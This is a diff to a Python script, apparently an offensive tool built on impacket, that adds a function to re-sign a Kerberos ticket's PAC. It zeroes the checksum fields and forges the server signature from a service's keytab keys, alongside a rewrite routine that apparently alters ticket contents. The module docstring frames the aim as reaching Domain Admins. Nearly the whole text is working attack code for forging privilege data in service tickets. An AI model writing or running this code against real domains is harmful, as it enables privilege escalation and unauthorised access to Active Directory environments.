@@ -5,6 +5,8 @@ who can write into a ticket, by which the signature over the PAC is all that
 stands between a user and Domain Admins.
 """
 
+import struct
+
 from impacket.krb5 import crypto
 from impacket.krb5.asn1 import AD_IF_RELEVANT, EncTicketPart, Ticket
 from impacket.krb5.ccache import CCache
@@ -13,6 +15,8 @@ from pyasn1.codec.der import decoder, encoder
 
 AD_IF_RELEVANT_TYPE, AD_WIN2K_PAC = 1, 128
 TICKET_KEY_USAGE = 2
+# [MS-PAC] 2.4 and 2.8
+SERVER_CHECKSUM, KDC_CHECKSUM, CHECKSUM_KEY_USAGE = 6, 7, 17
 
 
 def service_keys(keytab):
@@ -23,6 +27,25 @@ def service_keys(keytab):
         keys[block["keytype"], entry.kvno] = crypto.Key(
             block["keytype"], bytes(block["keyvalue"]["data"]))
     return keys
+
+
+def sign(pac, keys):
+    """The PAC with a server signature of one who has the host's keys."""
+    (count,) = struct.unpack_from("<L", pac)
+    buffers = {kind: (size, offset) for kind, size, offset in
+               struct.iter_unpack("<LLQ", pac[8:8 + 16 * count])}
+    signed = bytearray(pac)
+    for kind in SERVER_CHECKSUM, KDC_CHECKSUM:
+        size, offset = buffers[kind]
+        signed[offset + 4:offset + size] = bytes(size - 4)
+    size, offset = buffers[SERVER_CHECKSUM]
+    (checksum,) = struct.unpack_from("<L", pac, offset)
+    assert checksum == 16   # HMAC-SHA1-96 with AES-256
+    (key,) = [key for (kind, _), key in keys.items() if kind == 18]
+    signature = crypto._SHA1AES256.checksum(key, CHECKSUM_KEY_USAGE,
+                                            bytes(signed))
+    signed[offset + 4:offset + 4 + len(signature)] = signature
+    return bytes(signed)
 
 
 def rewrite(cache, output, keys, change):
